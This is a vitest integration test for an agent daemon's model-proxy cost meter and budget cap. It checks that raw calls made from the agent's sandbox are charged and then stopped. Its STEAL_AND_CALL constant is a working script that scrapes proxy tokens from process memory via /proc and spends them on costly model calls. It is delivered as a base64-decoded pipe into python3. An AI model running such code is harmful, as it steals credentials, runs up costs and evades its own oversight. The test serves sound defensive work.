import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startScriptedModel, type ScriptedModel } from '../../src/dev/scripted-model/index.js';
import { request, waitForStatus } from '../helpers/client.js';
import { startDaemon, type DaemonProcess } from '../helpers/daemon-process.js';

const TERMINAL = ['completed', 'failed', 'interrupted', 'timed_out'];

/**
 * Run by the agent's Bash inside its sandbox: finds its own CLI's proxy token in the CLI's
 * memory (same uid, same sandbox: /proc/<pid>/mem is readable) and makes raw model calls with
 * it, each with a ~100k-token prompt for claude-opus-4-1 ($15 per million input tokens, about
 * $1.50 a call), printing the status of each.
 */
const STEAL_AND_CALL = `
import os, re, json, socket, http.client
pat = re.compile(rb'ccs-proxy-[A-Za-z0-9_-]{43}')
tokens = set()
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        maps = open('/proc/%s/maps' % pid).read().splitlines()
        mem = open('/proc/%s/mem' % pid, 'rb', 0)
    except Exception:
        continue
    for line in maps:
        addr, perms = line.split()[:2]
        lo, hi = (int(x, 16) for x in addr.split('-'))
        # Only what the process wrote (rw private), and no huge reservation: reading those would
        # fault in pages charged to the sandbox's memory limit, which then kills the CLI.
        if not perms.startswith('rw') or hi - lo > (1 << 30):
            continue
        for offset in range(lo, hi, 1 << 22):
            try:
                mem.seek(offset)
                tokens.update(pat.findall(mem.read(min(1 << 22, hi - offset))))
            except Exception:
                pass
print('tokens found:', len(tokens))
body = json.dumps({'model': 'claude-opus-4-1', 'max_tokens': 64,
  'tools': [{'name': 'Bash', 'description': 'run', 'input_schema': {'type': 'object', 'properties': {}}}],
  'messages': [{'role': 'user', 'content': '[[script:remember]] remember ' + 'x' * 400000}]}).encode()
# The sandbox has no route to the proxy's TCP port: the model is behind the process's Unix socket.
sock_path = os.environ.get('ANTHROPIC_UNIX_SOCKET') or '/run/agent-net/model.sock'
class UnixConnection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(sock_path)
for token in tokens:
    for attempt in range(CALLS):
        conn = UnixConnection('localhost')
        conn.request('POST', '/v1/messages', body=body,
          headers={'x-api-key': token.decode(), 'content-type': 'application/json', 'anthropic-version': '2023-06-01'})
        response = conn.getresponse()
        response.read()
        print('raw call', response.status)
        conn.close()
`;

function hostilePrompt(calls: number): string {
  const script = Buffer.from(STEAL_AND_CALL.replace('CALLS', String(calls))).toString('base64');
  return `[[script:bash]][[cmd:echo ${script} | base64 -d | python3]]`;
}

describe('the proxy meter in the real daemon (real CLI in its sandbox, scripted model)', () => {
  let model: ScriptedModel;
  let daemon: DaemonProcess;

  beforeAll(async () => {
    model = await startScriptedModel();
    daemon = await startDaemon({
      CLAUDE_API_KEY: 'sk-test-0123456789',
      CLAUDE_BASE_URL: model.url,
      STORAGE_TYPE: 'memory',
      WARM_POOL_SIZE: '0',
      API_RATE_LIMIT_ENABLED: 'false',
    });
  });
  afterAll(async () => {
    await daemon?.stop('SIGKILL');
    await model?.close();
  });

  async function run(body: Record<string, unknown>): Promise<Record<string, unknown>> {
    const submitted = await request(daemon.baseUrl, 'POST', '/api/v1/tasks', body);
    expect(submitted.status, JSON.stringify(submitted.body)).toBe(201);
    return waitForStatus(daemon.baseUrl, String(body.task_id), TERMINAL, 120_000);
  }

  async function toolOutput(taskId: string): Promise<string> {
    const { body } = await request(daemon.baseUrl, 'GET', `/api/v1/tasks/${taskId}/events?format=json`);
    return JSON.stringify((body.events as { type: string; data: unknown }[]).filter((e) => e.type === 'tool_result'));
  }

  it("counts raw model calls made from the agent's shell with its process's token in the task's cost", { timeout: 180_000 }, async () => {
    const task = await run({ task_id: 'stolen-token', prompt: hostilePrompt(1) });
    const output = await toolOutput('stolen-token');
    expect(output).toMatch(/tokens found: [1-9]/);
    expect(output).toContain('raw call 200');
    expect(task.status).toBe('completed');
    // The CLI's own calls cost a few cents; the raw call alone about $1.50, and it is in the record.
    expect(Number(task.cost_usd)).toBeGreaterThan(1.4);

    // The same session's next task is charged for itself only.
    const next = await run({ task_id: 'same-session', prompt: '[[script:write-file]] go', session: { session_id: task.session_id, reuse_existing: true } });
    expect(next.session_id).toBe(task.session_id);
    expect(next.status).toBe('completed');
    expect(Number(next.cost_usd)).toBeGreaterThan(0);
    expect(Number(next.cost_usd)).toBeLessThan(0.5);
  });

  it(
    'stops the task once the raw calls spend its max_budget_usd: BUDGET_EXCEEDED with the metered spend, later calls refused',
    { timeout: 180_000 },
    async () => {
      const rawCalls = (): number => model.requests.filter((r) => (r.body as { model?: string } | undefined)?.model === 'claude-opus-4-1').length;
      const before = rawCalls();
      const task = await run({ task_id: 'stolen-capped', prompt: hostilePrompt(3), options: { max_budget_usd: 1 } });
      expect(task).toMatchObject({ status: 'failed', error: { code: 'BUDGET_EXCEEDED', message: expect.stringMatching(/max_budget_usd of \$1$/) } });
      // The first raw call (about $9: a 100k-token prompt and as long an answer at Opus 4.1 prices) is in the cost.
      expect(Number(task.cost_usd)).toBeGreaterThan(5);
      // Its later calls never reached the model: refused with 402 (or never made, the Bash tool being stopped with the task).
      expect(rawCalls() - before).toBe(1);
    },
  );

  it("cuts the CLI's own stream once the budget is spent: BUDGET_EXCEEDED, not a model failure", async () => {
    // The slow script streams message_start (the prompt's tokens), then only pings for 30 s.
    const task = await run({ task_id: 'cut-stream', prompt: '[[script:slow]]', options: { max_budget_usd: 0.000001 } });
    expect(task).toMatchObject({ status: 'failed', error: { code: 'BUDGET_EXCEEDED' } });
    expect(task.result).not.toBe('Sorry for the wait.');
    expect(Number(task.cost_usd)).toBeGreaterThan(0.000001);
  });
});
